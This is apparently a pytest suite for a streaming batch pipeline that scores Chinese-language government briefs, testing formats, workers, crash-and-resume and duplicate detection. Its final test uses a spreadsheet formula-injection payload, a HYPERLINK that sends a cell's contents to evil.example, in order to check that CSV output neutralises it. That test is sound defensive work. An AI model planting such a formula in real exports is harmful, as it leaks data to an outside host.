"""Streaming batch scoring: formats, workers, a killed run resumed, the Dask engine on a real cluster."""

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from batch.pipeline import score_stream
from batch.writers import read_output
from tests.conftest import SAMPLE_COUNT

ROOT = Path(__file__).resolve().parents[2]

FIELDS = ("id", "unit", "title", "body", "submitted_at", "event_at")


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    """The samples in submission-time order (as an archive export is), with two bad records."""
    records = [json.loads(line) for line in (ROOT / "data_samples" / "briefs.jsonl").open(encoding="utf-8")]
    records.sort(key=lambda r: r["submitted_at"])
    lines = [json.dumps(r, ensure_ascii=False) for r in records]
    lines.insert(40, "{not json")
    lines.insert(90, json.dumps({"id": "no-unit", "title": "标题", "body": "正文", "submitted_at": "2025-03-01T10:00:00"}))
    path = tmp_path_factory.mktemp("archive") / "archive.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def baseline(archive, trained_model_dir, config, tmp_path_factory):
    """One uninterrupted in-process run: the reference output."""
    from models import load_model

    out = tmp_path_factory.mktemp("baseline") / "reviews.jsonl"
    summary = score_stream(archive, out, model=load_model(trained_model_dir), config=config, workers=1,
                           chunk_size=32)
    return out, summary


def test_output_keeps_input_order_errors_and_duplicates(baseline, archive):
    out, summary = baseline
    rows = list(read_output(out))
    raw = [line for line in archive.read_text(encoding="utf-8").splitlines() if line.strip()]
    assert len(rows) == len(raw) == summary.total == SAMPLE_COUNT + 2
    assert rows[40]["error"]["code"] == "invalid_json" and rows[40]["line"] == 41
    assert rows[90]["error"]["code"] == "missing_field" and rows[90]["id"] == "no-unit"
    assert summary.errors == 2 and summary.scored == SAMPLE_COUNT
    ids = [json.loads(line)["id"] for n, line in enumerate(raw) if n not in (40, 90)]
    assert [r["id"] for r in rows if "error" not in r] == ids
    # The labelled copies are found against the growing archive, and only earlier briefs count.
    by_id = {r["id"]: r for r in rows if "error" not in r}
    position = {rid: n for n, rid in enumerate(ids)}
    labelled = {json.loads(line)["id"]: json.loads(line).get("duplicate_of")
                for line in (ROOT / "data_samples" / "briefs.jsonl").open(encoding="utf-8")}
    copies = [rid for rid, src in labelled.items() if src and by_id[rid]["duplicates"]
              and any(d["id"] == src for d in by_id[rid]["duplicates"])]
    assert len(copies) >= 14
    for rid, review in by_id.items():
        for match in review["duplicates"]:
            assert position[match["id"]] < position[rid]
    assert summary.duplicates == sum(bool(r["duplicates"]) for r in by_id.values())
    assert summary.flags["duplicate"] == sum(any(f["code"] == "duplicate" for f in r["flags"]) for r in by_id.values())


def test_formats_in_and_out_give_the_same_reviews(baseline, archive, trained_model_dir, config, tmp_path):
    from models import load_model

    model = load_model(trained_model_dir)
    records = [json.loads(line) for line in archive.read_text(encoding="utf-8").splitlines()
               if line.startswith("{\"")][:80]
    jsonl = tmp_path / "in.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(FIELDS), extrasaction="ignore")
        writer.writeheader()
        writer.writerows(records)
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.Table.from_pylist([{k: r.get(k) for k in FIELDS}
                                         for r in records]), tmp_path / "in.parquet", row_group_size=30)
    results = {}
    for src, dst in (("in.jsonl", "a.jsonl"), ("in.csv", "b.csv"), ("in.parquet", "c.parquet")):
        score_stream(tmp_path / src, tmp_path / dst, model=model, config=config, chunk_size=16)
        results[dst] = list(read_output(tmp_path / dst))
    assert results["a.jsonl"] == results["b.csv"] == results["c.parquet"]
    assert [r["id"] for r in results["a.jsonl"]] == [r["id"] for r in records]
    assert not list(tmp_path.glob("*.partial*"))  # nothing left behind


def test_folder_of_documents(trained_model_dir, config, tmp_path):
    from docx import Document

    from models import load_model

    folder = tmp_path / "docs"
    (folder / "清河县农业农村局").mkdir(parents=True)
    (folder / "清河县农业农村局" / "a.txt").write_text(
        "我县小麦条锈病出现扩散苗头\n4月2日,在柳集镇发现条锈病病叶,发病面积约300亩,比去年同期偏早10天。", encoding="utf-8")
    doc = Document()
    doc.add_paragraph("关于加快农村公路危桥改造的建议")
    doc.add_paragraph("全县现有危桥17座,其中四类、五类危桥9座,建议县财政设立专项资金,分两年完成改造。")
    doc.save(folder / "清河县农业农村局" / "b.docx")
    (folder / "bad.txt").write_bytes("标题\n正文".encode("gbk"))
    out = tmp_path / "docs.jsonl"
    summary = score_stream(folder, out, model=load_model(trained_model_dir), config=config)
    rows = list(read_output(out))
    assert [r.get("id") for r in rows] == ["bad", "清河县农业农村局/a", "清河县农业农村局/b"]
    assert rows[0]["error"]["code"] == "invalid_encoding"
    assert rows[1]["unit"] == rows[2]["unit"] == "清河县农业农村局"
    assert rows[2]["category"] == "proposal"
    assert (summary.scored, summary.errors) == (2, 1)


def test_two_workers_give_the_same_output(baseline, archive, trained_model_dir, config, tmp_path):
    from models import load_model

    import gc

    out = tmp_path / "w2.jsonl"
    score_stream(archive, out, model=load_model(trained_model_dir), config=config, workers=2, chunk_size=32)
    assert out.read_bytes() == baseline[0].read_bytes()
    assert gc.get_freeze_count() == 0  # frozen for the forked workers only: this process collects as before


def _run_cli(args, model_dir, **kwargs):
    env = dict(os.environ, BRIEFS_MODEL_DIR=str(model_dir))
    env.pop("BRIEFS_CONFIG", None)
    return subprocess.Popen([sys.executable, "-m", "cli.main", "score", *map(str, args)], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kwargs)


@pytest.mark.parametrize("workers", [1, 2])
def test_killed_run_resumed_equals_uninterrupted(baseline, archive, trained_model_dir, tmp_path, workers):
    out = tmp_path / "reviews.jsonl"
    partial = tmp_path / "reviews.jsonl.partial"
    args = [archive, "-o", out, "--workers", workers, "--chunk-size", 32, "--checkpoint-seconds", 0]
    proc = _run_cli(args, trained_model_dir, start_new_session=True)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline:
        if partial.exists() and partial.read_bytes().count(b"\n") >= 200:
            break
        if proc.poll() is not None:
            pytest.fail(f"the run ended before it could be killed: {proc.stderr.read().decode()}")
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGKILL)  # the run and its worker processes, as a crash would
    proc.wait()
    assert not out.exists() and partial.exists()
    written = partial.read_bytes().count(b"\n")
    assert 200 <= written < SAMPLE_COUNT + 2
    resumed = _run_cli([*args, "--resume"], trained_model_dir)
    stdout, stderr = resumed.communicate(timeout=600)
    assert resumed.returncode == 2, stderr.decode()  # two bad records in the input
    assert out.read_bytes() == baseline[0].read_bytes()
    text = stderr.decode()
    assert f"共 {SAMPLE_COUNT + 2} 条:评分 {SAMPLE_COUNT} 条,错误 2 条" in text  # the summary counts the part done before the kill
    assert not partial.exists()


def test_resume_refuses_a_changed_input(archive, trained_model_dir, config, tmp_path):
    from models import load_model
    from review.errors import BriefError

    src = tmp_path / "in.jsonl"
    src.write_bytes(archive.read_bytes())
    out = tmp_path / "out.jsonl"
    (tmp_path / "out.jsonl.partial").write_bytes(b"")
    (tmp_path / "out.jsonl.partial.json").write_text(json.dumps(
        {"input": str(src.resolve()), "size": 1, "mtime": 0, "chunk_size": 256, "run": "x", "index": None}))
    with pytest.raises(BriefError) as info:
        score_stream(src, out, model=load_model(trained_model_dir), config=config, resume=True)
    assert info.value.code == "resume_mismatch"


def test_persistent_index_is_shared_across_runs(archive, trained_model_dir, config, tmp_path):
    """A second run against the index of the first finds its copies there (the growing archive)."""
    from models import load_model
    from review.duplicates import DuplicateIndex

    model = load_model(trained_model_dir)
    lines = archive.read_text(encoding="utf-8").splitlines()
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    first.write_text("\n".join(lines[:300]) + "\n", encoding="utf-8")
    second.write_text("\n".join(lines[300:]) + "\n", encoding="utf-8")
    index_dir = tmp_path / "index"
    score_stream(first, tmp_path / "r1.jsonl", model=model, config=config, index_dir=index_dir)
    n_first = len(DuplicateIndex.open(index_dir, config))
    score_stream(second, tmp_path / "r2.jsonl", model=model, config=config, index_dir=index_dir)
    index = DuplicateIndex.open(index_dir, config)
    assert n_first > 250 and len(index) > n_first and index.checkpoint == {}
    # Copy matches of the split runs are the copy matches of one run over everything.
    whole = tmp_path / "whole.jsonl"
    score_stream(archive, whole, model=model, config=config)
    split = list(read_output(tmp_path / "r1.jsonl")) + list(read_output(tmp_path / "r2.jsonl"))

    def copies(rows):
        return [[(d["id"], round(d["similarity"], 6)) for d in r.get("duplicates", []) if d["kind"] == "copy"]
                for r in rows]
    assert copies(split) == copies(list(read_output(whole)))


@pytest.mark.slow
def test_dask_executor_equals_local_executor(baseline, archive, trained_model_dir, config, tmp_path):
    from distributed import LocalCluster

    from models import load_model

    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        out = tmp_path / "dask.jsonl"
        summary = score_stream(archive, out, model=load_model(trained_model_dir), config=config, executor="dask",
                               scheduler=cluster.scheduler_address, chunk_size=32)
        assert len(cluster.scheduler_info["workers"]) == 2
    assert out.read_bytes() == baseline[0].read_bytes()
    assert (summary.scored, summary.errors) == (SAMPLE_COUNT, 2)


class _DyingModel:
    """A model whose worker process dies (as if killed by the kernel) on its fourth chunk."""

    def __init__(self, model, parent: int) -> None:
        self.model, self.parent, self.calls = model, parent, 0

    def __getattr__(self, name):
        return getattr(self.model, name)

    def predict_and_embed(self, X):
        if os.getpid() != self.parent:
            self.calls += 1
            if self.calls == 4:
                os._exit(9)
        return self.model.predict_and_embed(X)


def score_with_a_dying_worker(archive: str, model_dir: str, out: str) -> None:
    """Run in a separate interpreter by the test below: prints the error code, then exits."""
    from models import load_model
    from review.config import DEFAULTS_PATH, load_config
    from review.errors import BriefError

    dying = _DyingModel(load_model(Path(model_dir)), os.getpid())
    try:
        score_stream(Path(archive), Path(out), model=dying, config=load_config(DEFAULTS_PATH), workers=2,
                     chunk_size=64, commit_seconds=0)
    except BriefError as err:
        print(err.code, "--resume" in str(err))


def test_a_dead_worker_stops_the_run_with_a_clear_error_and_resume_completes_it(baseline, archive, trained_model_dir,
                                                                                  config, tmp_path):
    from models import load_model

    out = tmp_path / "reviews.jsonl"
    # In its own interpreter, which must also exit (nothing left waiting on the dead worker).
    code = f"from tests.review.test_stream import score_with_a_dying_worker as run; run({str(archive)!r}, " \
           f"{str(trained_model_dir)!r}, {str(out)!r})"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["worker_died", "True"]
    assert not out.exists()  # nothing half-written in place of the output
    written = out.with_name(out.name + ".partial").read_bytes().count(b"\n")  # how far it got depends on timing
    summary = score_stream(archive, out, model=load_model(trained_model_dir), config=config, workers=2, chunk_size=64,
                           resume=True)
    assert summary.resumed_from == written and out.read_bytes() == baseline[0].read_bytes()


def test_csv_output_neutralises_formulas_and_keeps_the_review(trained_model_dir, config, tmp_path):
    """A unit named like a formula is plain text in the CSV; the review JSON keeps it as sent."""
    from models import load_model

    unit = '=HYPERLINK("http://evil.example/"&A1,"点击")'
    record = {"id": "f-1", "unit": unit, "title": "", "submitted_at": "2025-06-03T10:00:00",
              "body": "6月2日,县里召开防汛工作会议,安排部署汛期值班和隐患排查工作。"}
    (tmp_path / "in.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    score_stream(tmp_path / "in.jsonl", tmp_path / "out.csv", model=load_model(trained_model_dir), config=config)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["unit"] == "'" + unit and row["id"] == "f-1"
    assert [r["unit"] for r in read_output(tmp_path / "out.csv")] == [unit]
